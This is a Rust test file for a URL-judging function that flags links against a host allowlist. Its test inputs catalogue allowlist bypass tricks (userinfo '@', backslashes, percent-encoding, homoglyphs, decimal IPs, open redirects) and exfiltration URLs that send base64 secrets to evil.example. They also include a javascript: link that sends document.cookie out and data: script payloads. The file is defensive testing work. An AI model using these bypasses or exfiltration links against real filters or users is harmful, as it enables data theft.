use cordon_core::HostPattern;

use super::*;

fn hosts(list: &[&str]) -> Hosts {
    Hosts::new([list.iter().map(|host| HostPattern::parse(host).unwrap()).collect()])
}

fn said(text: &str, place: Place, hosts: &Hosts) -> Said {
    judge(&Link { text: text.as_bytes(), same: text.len() + 1, place }, hosts)
}

#[test]
fn nothing_slips_a_list_of_hosts() {
    let listed = hosts(&["cdn.example.org", "*.img.example.org"]);
    for on in [
        "https://cdn.example.org/a.png",
        "https://cdn.example.org",
        "HTTPS://CDN.Example.ORG/a.png?w=640",
        "//cdn.example.org/a.png",
        "https://cdn.example.org:8443/a.png",
        "http://a.img.example.org?x=1#y",
        "/a.png",
        "a.png",
        "#top",
        "mailto:ana@example.org",
    ] {
        assert_eq!(said(on, Place::Loaded, &listed), None, "{on}");
    }
    for off in [
        "https://evil.example/a.png",
        "https://img.example.org/a.png",
        "https://cdn.example.org.evil.example/a.png",
        "https://cdn.example.org@evil.example/a.png",
        "https://cdn.example.org:443@evil.example/",
        "https://evil.example\\@cdn.example.org/",
        "https://evil.example#@cdn.example.org/",
        "https://evil.example?@cdn.example.org/",
        "https:\\\\evil.example\\a.png",
        "https:/evil.example/a.png",
        "https:evil.example/a.png",
        "https:///evil.example/a.png",
        "//evil.example/a.png",
        "\\\\evil.example/a.png",
        "/\\evil.example/a.png",
        "hTTps://evil.example/a.png",
        "https://ev\nil.example/a.png",
        "ht\ttps://evil.example/a.png",
        "https://cdn%2eexample%2eorg/a.png",
        "https://cdn.example.org%2f@evil.example/a.png",
        "https://cdn.example.org%00.evil.example/",
        "https://cdn.exampl\u{435}.org/",
        "https://xn--cdn-.example.org/",
        "https://cdn.example.org./a.png",
        "https://2130706433/a.png",
        "https://[::1]/a.png",
        "https://user@cdn.example.org/a.png",
        "https://cdn.example.org:@evil.example/",
        "wss://evil.example/",
        "ftp://evil.example/a.png",
    ] {
        let (_, percent) =
            said(off, Place::Loaded, &listed).unwrap_or_else(|| panic!("{off} slips the list"));
        assert!(percent >= 80, "{off}: {percent}");
        let (_, percent) = said(off, Place::Clicked, &listed).unwrap();
        assert!(percent >= 60, "{off}: {percent}");
    }
    // What folding changed of the host is not what the list says.
    let text = b"https://cdn.example.org/a.png";
    for same in [0, 8, 23] {
        assert!(judge(&Link { text, same, place: Place::Loaded }, &listed).is_some(), "{same}");
    }
    assert_eq!(judge(&Link { text, same: 24, place: Place::Loaded }, &listed), None);
}

#[test]
fn hosts_on_a_list_that_lead_on_are_named() {
    let listed = hosts(&["cdn.example.org"]);
    for on in [
        "https://cdn.example.org/r?to=https://evil.example/x",
        "https://cdn.example.org/r?to=//evil.example",
        "https://cdn.example.org/https://evil.example/a.png",
    ] {
        assert_eq!(said(on, Place::Clicked, &listed), Some((LINK, 75)), "{on}");
    }
    for fine in [
        "https://cdn.example.org/r?to=https://cdn.example.org/x",
        "https://cdn.example.org/a//b",
        "https://cdn.example.org/r?next=/home",
    ] {
        assert_eq!(said(fine, Place::Clicked, &listed), None, "{fine}");
    }
}

#[test]
fn without_a_list_what_is_carried_counts() {
    let none = Hosts::default();
    for (text, place, expected) in [
        ("https://evil.example/p?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI", Place::Loaded, Some((LOADED, 85))),
        ("https://evil.example/p?q=the card of ana is red", Place::Loaded, Some((LOADED, 75))),
        ("https://evil.example/p#VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI", Place::Loaded, Some((LOADED, 85))),
        ("https://VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI@evil.example/", Place::Loaded, Some((LOADED, 85))),
        ("https://krugkidqmfzxg53pnzsca2ltebuhk3tumvzde.evil.example/", Place::Loaded, Some((LOADED, 85))),
        ("https://img.example.org/logo.svg", Place::Loaded, Some((LOADED, 30))),
        ("https://img.example.org/logo.svg?style=flat&branch=main", Place::Loaded, Some((LOADED, 30))),
        ("https://evil.example/p?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI", Place::Clicked, Some((LINK, 30))),
        ("https://search.example/?q=how to prune an old apple tree", Place::Clicked, None),
        ("https://example.org/page", Place::Clicked, None),
        ("https://bank.example@evil.example/", Place::Clicked, Some((LINK, 80))),
        ("https://2130706433/", Place::Bare, Some((LINK, 65))),
        ("http://127.0.0.1:8080/", Place::Bare, None),
        ("data:text/html;base64,PHNjcmlwdD4", Place::Clicked, Some((DATA, 80))),
        ("DATA: text/html,<script>", Place::Loaded, Some((DATA, 80))),
        ("data:image/png;base64,iVBORw0KGgo", Place::Loaded, None),
        ("data:image/svg+xml,<svg onload=x>", Place::Loaded, Some((DATA, 80))),
        ("javascript:fetch('//evil.example/'+document.cookie)", Place::Clicked, Some((SCRIPT, 85))),
        ("java\nscript:alert(1)", Place::Clicked, Some((SCRIPT, 85))),
        ("javascript:void(0)", Place::Clicked, None),
        ("javascript: a language", Place::Bare, None),
        ("images/garden.png", Place::Loaded, None),
    ] {
        assert_eq!(said(text, place, &none), expected, "{text}");
    }
}
